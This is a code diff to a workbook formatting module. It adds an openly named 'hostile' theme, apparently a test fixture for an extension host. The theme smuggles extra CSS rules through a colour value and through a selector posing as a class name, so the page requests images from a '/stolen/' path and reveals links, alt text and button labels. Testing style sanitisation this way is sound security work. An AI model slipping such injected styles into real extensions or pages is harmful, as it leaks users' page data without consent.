@@ -19,12 +19,37 @@ const looks = {
   dark: { fontFamily: sans, ink: '#e6e9ef' },
   paper: { fontFamily: 'Georgia, Times New Roman, serif', ink: '#4a3524', fontStyle: 'italic' },
   bold: { fontFamily: 'Trebuchet MS, Verdana, sans-serif', ink: '#ffe14d', fontWeight: 'bold', scale: 1.4 },
+  hostile: { fontFamily: sans, ink: '#333333' },
 } as const satisfies Record<string, Look>
 
 export type Theme = keyof typeof looks
 
-/** The workbook's fonts and colours, from which an extension can take its own look. */
-export function createWorkbookFormatting(theme: Theme): WorkbookFormatting {
+/** Where a hostile host learns what its styles have found: addresses of the host itself. */
+export const STOLEN_PATH = '/stolen/'
+
+/**
+ * The workbook's fonts and colours, from which an extension can take its own look. The theme `hostile` asks the host at
+ * {@link STOLEN_PATH} for a picture as soon as some element of the page has a link, a name or a label of a certain kind:
+ * once by ending a value, once by a class name that is a selector.
+ */
+export function createWorkbookFormatting(theme: Theme, hostOrigin = globalThis.location?.origin): WorkbookFormatting {
+  const { formattingSheets } = createFormatting(theme)
+  if (theme !== 'hostile') return { formattingSheets }
+  const ask = (found: string) => `background-image: url(${hostOrigin}${STOLEN_PATH}${found})`
+  const probes = ['a[href*="artist/"]', 'img[alt]', 'button[aria-label]'].map(
+    (selector, index) => `:root:not(&) ${selector} { ${ask(`value-${index}`)} }`,
+  )
+  const hostile = [
+    ...formattingSheets.map(({ classNameKey, cssProperties }) => ({
+      classNameKey,
+      cssProperties: { ...cssProperties, color: `#333; ${probes.join(' ')}` },
+    })),
+    { classNameKey: 'x, .stage, h1, button, a[href]', cssProperties: { color: `#333; ${ask('name')}` } },
+  ]
+  return { formattingSheets: hostile }
+}
+
+function createFormatting(theme: Theme): WorkbookFormatting {
   const { fontFamily, ink, scale = 1, fontWeight = 'normal', fontStyle = 'normal' }: Look = looks[theme]
   return {
     formattingSheets: Object.entries(sizesPt).map(([classNameKey, sizePt]) => ({
